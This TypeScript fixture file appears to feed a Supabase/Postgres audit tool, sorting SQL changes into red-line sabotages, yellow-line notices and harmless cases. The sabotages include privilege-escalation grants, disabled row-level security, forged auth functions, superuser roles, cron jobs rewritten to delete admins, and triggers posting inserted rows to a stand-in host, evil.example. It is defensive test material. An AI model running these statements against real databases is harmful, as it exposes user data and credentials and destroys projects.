const isAdmin = (condition: string, rest = "security definer set search_path = ''") =>
  `create or replace function private.is_admin() returns boolean language sql stable ${rest} as $$ select ${condition} $$`;
const watch = (table: string, time = "before insert") =>
  `create or replace function private.watch() returns trigger language plpgsql security definer as 'begin return new; end';
  create trigger watch ${time} on ${table} for each row execute function private.watch()`;
const watchEvents = (name: string) =>
  `create or replace function private.events() returns event_trigger language plpgsql as 'begin end'; create event trigger ${name} on ddl_command_end execute function private.events()`;
const onDatabase = (command: string) => `do $$ begin execute format('${command}', current_database()); end $$`;
/** The embedded Postgres has no dblink, so its row in the catalogue is made up. */
const dblinkIn = (schema: string) =>
  `set local allow_system_table_mods = on; insert into pg_extension select 99999, 'dblink', extowner, '${schema}'::regnamespace, false, '1.0' from pg_extension where extname = 'pg_trgm'`;
const server = (rest: string) =>
  `create foreign data wrapper files; create server elsewhere foreign data wrapper files ${rest}`;
const draftLink = (created: string, expires: string, record = 1) =>
  `insert into public.draft_links (table_name, record_id, token_hash, created_at, expires_at) values ('blog_posts', ${record}, repeat('${record}', 64), ${created}, ${expires})`;
const enquiry = (age: string) =>
  `insert into public.enquiries (id, name, email, project_type, message, submitted_at, created_at)
  values ('6c1f4c3e-5a84-4f3b-9d5e-0d9d1f0b7f11', 'Ada', 'ada@example.com', 'other', 'Hello', now(), now() - interval '${age}')`;
const withoutTriggers = (table: string, change: string) =>
  `alter table ${table} disable trigger all; ${change}; alter table ${table} enable trigger all`;
const hook = (table: string, host = "evil.example") =>
  `create trigger hook after insert on ${table} for each row execute function supabase_functions.http_request('https://${host}/in', 'POST', '{}', '{}', '5000')`;

/**
 * Ways to open a project, or to make it quietly stop working, without changing a line of the site. Each gives one red line; those in a
 * list are tried together, as reading the catalogue is what takes time.
 */
export const sabotages: Record<string, string[]> = {
  "tables and policies": [
    "grant delete on public.case_studies to anon",
    "grant truncate on public.blog_posts to anon",
    "grant select (email) on public.enquiries to anon",
    "grant select on public.admins to public",
    "grant select on public.settings to anon with grant option",
    "revoke select on public.case_studies from anon",
    "alter table public.settings disable row level security",
    "alter table storage.objects disable row level security",
    "alter table auth.users disable row level security",
    "grant select on auth.users to anon",
    `create policy "All" on auth.users for select using (true)`,
    `alter policy "Visitors can read published posts" on public.blog_posts using (status = 'published')`,
    `create policy "Drafts" on public.blog_posts for select to anon using (true)`,
    `drop policy "Visitors can read published case studies" on public.case_studies`,
    `create policy "No" on public.settings as restrictive for select to anon using (false)`,
    `create policy "Read" on public.enquiries for select to authenticated using (true)`,
    `alter policy "Admins can read enquiries" on public.enquiries to public`,
    `alter policy "Admins can change posts" on public.blog_posts with check (true)`,
    "create role helper; alter table public.enquiries owner to helper",
    "alter table public.draft_links set unlogged",
    "create rule swallow as on insert to public.enquiries do instead nothing",
    "create rule swallow as on update to storage.objects do also nothing",
  ],
  "columns, constraints and indexes": [
    "create table private.more (like public.settings including all); alter table private.more inherit public.settings",
    "drop table public.unsaved_copies",
    "alter table public.enquiries drop column delivered_at",
    "alter table public.settings add column secret text",
    "alter table public.enquiries alter column delivery_attempts type bigint",
    "create function private.now() returns timestamptz language sql security definer as 'select clock_timestamp()'; alter table public.enquiries alter column submitted_at set default private.now()",
    "alter table public.draft_links alter column id drop identity",
    "alter table public.enquiries drop constraint enquiries_email_check",
    "alter table public.admins drop constraint admins_user_id_fkey; alter table public.admins add constraint admins_user_id_fkey foreign key (user_id) references auth.users (id)",
    "alter table public.settings add constraint one check (id = 1) not valid",
    "drop index public.enquiries_created_at_idx",
    "create unique index one_name on public.enquiries (name, id)",
  ],
  functions: [
    isAdmin("true"),
    "alter function private.hash_draft_token(text) security definer",
    "drop function public.sync_identities()",
    "grant execute on function public.discard_import() to anon",
    "revoke execute on function private.is_admin() from authenticated",
    "grant execute on function public.get_enquiry_status() to authenticated",
    "create or replace function auth.uid() returns uuid language sql stable as 'select user_id from public.admins limit 1'",
    "create or replace function auth.role() returns text language sql stable as $$ select 'service_role' $$",
    `create or replace function auth.jwt() returns jsonb language sql stable as $$ select '{"aal":"aal2"}'::jsonb $$`,
    "create function auth.backdoor() returns void language sql security definer as 'select null'",
    "create function storage.backdoor() returns void language sql as 'select null'",
    "create or replace function storage.protect_delete() returns trigger language plpgsql as 'begin return null; end'",
  ],
  "what is new and open": [
    "create table public.notes (text text); grant select on public.notes to anon",
    "create view public.mails as select email from public.enquiries; grant select on public.mails to anon",
    "create materialized view public.texts as select email from public.enquiries; grant select on public.texts to authenticated",
    "create function public.mails() returns setof text language sql security definer as 'select email from public.enquiries'; grant execute on function public.mails() to anon",
    "create procedure public.clean() language sql security definer as 'delete from public.enquiries'; grant execute on procedure public.clean() to authenticated",
    "create sequence public.numbers; grant usage on sequence public.numbers to anon",
    "create schema other; create table other.mails (email text); grant select on other.mails to anon",
    "create schema extra; grant usage on schema extra to anon",
    "grant create on schema public to anon",
    "grant create on schema extensions to authenticated",
    onDatabase("grant create on database %I to anon"),
    "grant usage on schema private to public",
    "grant select on vault.secrets to anon",
    "grant select on cron.job to anon",
    "grant insert on cron.job to authenticated",
    "grant delete on realtime.messages to anon",
    "grant execute on function pg_catalog.pg_read_file(text) to anon",
    "grant select on pg_catalog.pg_authid to anon",
    "grant set on parameter session_replication_role to authenticated",
    server(
      "; grant usage on foreign server elsewhere to anon; create foreign table public.files (line text) server elsewhere; grant select on public.files to anon",
    ),
    "alter publication supabase_realtime add table public.enquiries",
    "create publication everything for all tables",
    "create publication everything_private for tables in schema private",
  ],
  triggers: [
    "alter table public.blog_posts disable trigger stamp_update",
    "alter table public.case_studies enable replica trigger stamp_update",
    "drop trigger remember_old_slug on public.blog_posts",
    `create function public.welcome() returns trigger language plpgsql security definer as 'begin insert into public.admins (user_id) values (new.id); return new; end'; create trigger welcome after insert on auth.users for each row execute function public.welcome()`,
    ...["public.blog_posts", "auth.sessions", "storage.objects", "vault.secrets", "cron.job"].map((table) =>
      watch(table),
    ),
    watch("storage.buckets", "after update"),
    "create trigger update_objects_updated_at_2 before update on storage.objects for each row execute function storage.update_updated_at_column()",
    "alter table storage.objects disable trigger protect_objects_delete",
    "alter table public.blog_post_old_slugs disable trigger all",
    ...["public.enquiries", "auth.users", "public.admins", "storage.objects"].map((table) => hook(table)),
    "create function private.code() returns text language sql as $$ select '1' $$; alter table auth.users alter column phone_change set default private.code()",
    "create function private.is_fine(text) returns boolean language sql as 'select true'; alter table auth.users add constraint fine check (private.is_fine(email))",
    watchEvents("watch"),
    watchEvents("pgrst_drop_watch"),
    "alter function extensions.pgrst_ddl_watch() owner to postgres",
  ],
  roles: [
    "alter role anon bypassrls login",
    "alter role authenticated superuser createrole",
    "alter role service_role nobypassrls",
    "create role helper login bypassrls",
    "create role helper_2 login superuser",
    "create role helper_3 login replication",
    "grant service_role to authenticated",
    "grant supabase_auth_admin to anon",
    "grant pg_read_all_data to anon",
    "create role helper_4 login; grant pg_read_all_data to helper_4",
    "create role helper_5 login; grant postgres to helper_5",
    "grant postgres to authenticator",
    "revoke anon from authenticator",
    "grant supabase_auth_admin to postgres",
    "create role helper_6; alter schema private owner to helper_6",
  ],
  "settings and defaults": [
    "alter role anon set statement_timeout = 0",
    "alter role authenticated set statement_timeout = '1h'",
    "alter role authenticator set pgrst.db_schemas = 'public, private'",
    "alter role authenticator set pgrst.db_pre_request = 'private.leak'",
    "alter role authenticator set pgrst.jwt_secret = 'known'",
    "alter role anon set search_path = extensions, public",
    "alter role postgres set session_replication_role = replica",
    onDatabase("alter database %I set session_replication_role = replica"),
    onDatabase("alter database %I set search_path = extensions"),
    onDatabase("alter role anon in database %I set row_security = off"),
    "alter default privileges in schema private grant execute on functions to anon",
    "alter default privileges grant select on tables to anon",
    "alter default privileges grant execute on functions to public",
    "alter default privileges in schema public grant all on tables to public",
    server("; create user mapping for anon server elsewhere"),
    dblinkIn("public"),
  ],
  "rows of Storage, jobs and logs": [
    "update storage.buckets set public = false where id = 'blog-posts'",
    "update storage.buckets set allowed_mime_types = allowed_mime_types || array['image/svg+xml'], file_size_limit = 5368709120 where id = 'case-studies'",
    "insert into storage.buckets (id, name, public) values ('dump', 'dump', true)",
    `create policy "Delete" on storage.objects for delete to anon using (true)`,
    `create policy "Look" on storage.buckets for select to anon using (true)`,
    `drop policy "Admins can upload site images" on storage.objects`,
    "delete from cron.job where jobname = 'wake-enquiry-server'",
    "update cron.job set command = 'select 1 -- private.delete_old_enquiries()' where jobname = 'delete-old-enquiries'",
    "update cron.job set command = command || '; delete from public.admins' where jobname = 'purge-bin'",
    "delete from supabase_migrations.schema_migrations where version = (select max(version) from supabase_migrations.schema_migrations)",
    "insert into supabase_migrations.schema_migrations (version) values ('20991231000000')",
  ],
  "jobs that do not run, and an anonymous admin": [
    "insert into auth.users (id, is_anonymous) values ('00000000-0000-4000-8000-00000000000a', true); insert into public.admins (user_id) values ('00000000-0000-4000-8000-00000000000a')",
    "update cron.job set active = false where jobname = 'wake-enquiry-server'",
    "update cron.job set schedule = '0 0 1 1 *' where jobname = 'delete-old-enquiries'",
    "update cron.job set username = 'supabase_admin' where jobname = 'purge-bin'",
    "insert into cron.job_run_details select jobid, now(), 'failed', 'out of memory' from cron.job",
    "set local storage.allow_delete_query = 'true'; delete from storage.objects; delete from storage.buckets where id = 'blog-posts'",
    "update storage.buckets set allowed_mime_types = null where id = 'case-studies'",
  ],
  rows: [
    "delete from public.admins",
    "update auth.users set role = 'service_role'",
    withoutTriggers("public.blog_categories", "delete from public.blog_categories where id = 2"),
    "update private.enquiry_pools set places_an_hour = 1000000 where pool = 'spam'",
    "update private.enquiry_pools set places_an_hour = 0 where pool = 'sender'",
    "delete from private.enquiry_pools where pool = 'repeats'",
    draftLink("now()", "'infinity'"),
    "delete from private.picture_uses",
    "delete from private.enquiry_server",
    enquiry("25 months"),
  ],
  "functions and rows in another way": [
    isAdmin("exists (select 1 from public.admins a where a.user_id = auth.uid())"),
    "alter function auth.uid() security definer",
    "create role helper; alter function private.is_record(text, bigint) owner to helper",
    "alter function private.require_admin() reset search_path",
    "alter function private.fold(text) volatile",
    withoutTriggers("public.admins", "insert into public.admins (user_id) values (gen_random_uuid())"),
    draftLink("now() + interval '9 years'", "now() + interval '9 years 7 days'"),
    `${enquiry("1 hour")}; insert into private.enquiry_jobs (enquiry_id, kind, due_at) select id, 'mail', now() - interval '11 minutes' from public.enquiries`,
  ],
};

/** What an owner may want, but should know of: each gives a yellow line, not a red one. */
export const noticed: string[] = [
  hook("public.blog_posts", "deploy.example"),
  "select cron.schedule('clean', '0 4 * * *', 'delete from public.unsaved_copies')",
  "select cron.schedule('ping', '0 4 * * *', $$select net.http_post('https://key@cron.example:8443/secret')$$)",
  "create role reporter login; grant select on public.enquiries to reporter",
  dblinkIn("extensions"),
  server("options (host 'db.example')"),
  // Two lines.
  "alter default privileges in schema public grant all on tables to anon, authenticated, service_role",
  "delete from public.settings",
  "delete from auth.mfa_factors",
  "delete from vault.secrets",
];

/** What changes nothing for anybody: no line. */
export const harmless: string[] = [
  `create table public.diary (text text primary key check (text <> '')); alter table public.diary enable row level security; create policy "Mine" on public.diary using (true)`,
  watch("public.diary"),
  "create function public.mine() returns integer language sql as 'select 1'",
  "create schema reports; create table reports.visits (day date); create view reports.days as select day from reports.visits; create function reports.count() returns integer language sql security definer as 'select 1'",
  "create index on public.settings (site_name)",
  "insert into storage.buckets (id, name, public) values ('invoices', 'invoices', false)",
  "grant all on all tables in schema public to service_role; grant execute on all functions in schema public to service_role",
  "create role reporter login; alter role reporter set statement_timeout = 0; create role readers; grant readers to reporter",
  "update private.enquiry_pools set places_an_hour = places_an_hour * 2",
  "comment on table public.settings is 'Mine'; create statistics public.mine on name, email from public.enquiries; analyze public.settings",
  draftLink("now()", "now() + interval '7 days'", 2),
  enquiry("23 months"),
  `insert into auth.users (id, email, role, aud) values (gen_random_uuid(), 'new@example.com', 'authenticated', 'authenticated'); insert into storage.objects (bucket_id, name) values ('blog-posts', 'images/new.webp')`,
];
